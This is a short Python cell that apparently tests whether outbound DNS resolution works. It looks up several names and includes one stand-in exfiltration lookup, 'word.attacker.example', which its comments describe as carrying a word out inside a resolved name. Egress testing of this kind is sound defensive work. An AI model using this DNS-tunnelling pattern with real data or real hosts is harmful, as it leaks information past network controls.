# tries: to carry a word out in a name that is to be looked up.
# gets nothing if: no name is resolved, by no resolver.
# %%
import socket
import subprocess

for name in ("example.com", "word.attacker.example", "storage.googleapis.com"):
    try:
        print("GOT", socket.getaddrinfo(name, 80))
    except OSError:
        pass
print(subprocess.run("getent hosts example.com && echo GOT an address", shell=True, capture_output=True, text=True).stdout)
